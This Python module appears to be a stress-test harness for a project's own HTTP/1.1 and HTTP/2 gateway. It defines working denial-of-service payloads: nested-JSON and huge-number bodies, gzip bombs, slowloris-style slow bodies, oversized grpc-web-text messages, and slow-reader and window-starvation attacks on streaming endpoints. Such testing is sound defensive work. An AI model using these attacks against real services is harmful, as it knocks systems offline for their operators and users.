"""Attacks on the gateway by bodies of HTTP and by readers of streams, over HTTP/1.1 and HTTP/2.
Each is called with a TextLink or a Link and with what says whether the attack is over, and yields
how many bytes it has sent.
"""

import base64
import gzip
import os
import struct
import time

from attacks_http1 import POST, QUESTION, flood, request
from http2 import END_HEADERS, END_STREAM, HEADERS, SETTINGS, WINDOW_UPDATE, frame, literal

MIB = 1 << 20
WATCH = b'/v1/membership:watchChanges'
WEB_TEXT = (b'content-type: application/grpc-web-text',)
GET_MEMBER = b'/baliprocess.membership.v1.MembershipService/GetMember'
HOLD = 0.1  # seconds between two bytes that a slow reader takes


def token():
    """Of the attacker, as a field."""
    return 'Bearer ' + os.environ['BALI_ATTACK_TOKEN']


def ask(body, *fields):
    return request(b'POST', QUESTION, (*POST, *fields), body)


def slowly(begin, one, pause):
    """The attack that sends much, and no more at once than is taken for slow."""
    def attack(link, over):
        link.send(begin)
        while not over():
            link.send(one)
            yield len(one)
            link.read(pause)
    return attack


def names(count):
    return b'[' + b','.join(b'"members/m%d"' % i for i in range(count)) + b']'


def text_call(message):
    return request(b'POST', GET_MEMBER, WEB_TEXT, base64.b64encode(message))


DEEP = b'{"names":' + b'[' * 100000
NUMBERS = b'{"names":[' + b','.join([b'9' * 100000] * 10) + b']}'
EXPONENTS = b'{"names":[' + b','.join([b'1e999999999'] * 50000) + b']}'
KEYS = b'{' + b','.join(b'"key%d":1' % i for i in range(100000)) + b'}'
VALUES = b'{"names":[' + b','.join([b'{}'] * 300000) + b']}'
BOMB = gzip.compress(bytes(32 * MIB))
SPACES = gzip.compress(b'{"names":["members/aus"]' + b' ' * (4 * MIB - 100) + b'}')
TEXTS = b'A' * 4 * MIB  # base64 of zeros: messages of no bytes, one behind the other


def reader(accept, most):
    """Opens a watch and takes no more than `most` bytes now and then."""
    def attack(link, over):
        data = request(path=WATCH, fields=(b'accept: ' + accept,
                                           b'authorization: ' + token().encode()))
        link.send(data)
        yield len(data)
        while not over():
            if most:
                link.read(HOLD, most)
            time.sleep(HOLD)
            link.check()
    return attack


def h2_reader(accept, window, grants):
    """The same in a stream's window, opened a byte at a time if `grants`."""
    def attack(link, over):
        link.send(frame(SETTINGS, payload=struct.pack('>HI', 4, window)))
        head = b''.join(literal(name, value) for name, value in [
            (':method', 'GET'), (':scheme', 'https'), (':path', WATCH), (':authority', 'suite'),
            ('accept', accept), ('authorization', token())])
        streams = [link.next_stream() for _ in range(5)]
        for stream in streams:
            data = frame(HEADERS, END_HEADERS | END_STREAM, stream, head)
            link.send(data)
            yield len(data)
        while not over():
            for _ in link.read(HOLD):
                pass
            if grants:
                link.send(b''.join(frame(WINDOW_UPDATE, 0, stream, struct.pack('>I', 1))
                                   for stream in streams))
                yield 13 * len(streams)
    return attack


TEXT = {
    'deep_json': flood(ask(DEEP)),
    'huge_numbers': flood(ask(NUMBERS)),
    'huge_exponents': flood(ask(EXPONENTS)),
    'many_keys': flood(ask(KEYS)),
    'many_values': flood(ask(VALUES)),
    'large_slow_body': slowly(request(b'POST', QUESTION, (*POST, b'content-length: %d' % (64 * MIB))),
                              b' ' * 16384, 0.05),
    'gzip_spaces': flood(ask(SPACES, b'content-encoding: gzip')),
    'gzip_bodies': flood(ask(BOMB, b'content-encoding: gzip')),
    'web_text_messages': flood(text_call(bytes(MIB))),
    'web_text_large': flood(text_call(b'\0\xff\xff\xff\xff' + bytes(MIB))),
    'web_text_bytes': flood(TEXTS, request(b'POST', GET_MEMBER, (
        *WEB_TEXT, b'transfer-encoding: chunked')) + b'%x\r\n' % (1 << 30)),
    'web_text_padding': flood(b'AA==' * 16384, request(b'POST', GET_MEMBER, (
        *WEB_TEXT, b'content-length: %d' % (32 * MIB)))),
}
READERS = {
    'lines_unread': reader(b'application/x-ndjson', 0),
    'lines_by_byte': reader(b'application/x-ndjson', 1),
    'events_unread': reader(b'text/event-stream', 0),
    'events_by_byte': reader(b'text/event-stream', 1),
}
FRAMES = {
    'h2_lines_unread': h2_reader('application/x-ndjson', 0, False),
    'h2_lines_by_byte': h2_reader('application/x-ndjson', 0, True),
    'h2_events_unread': h2_reader('text/event-stream', 0, False),
    'h2_events_by_byte': h2_reader('text/event-stream', 0, True),
}
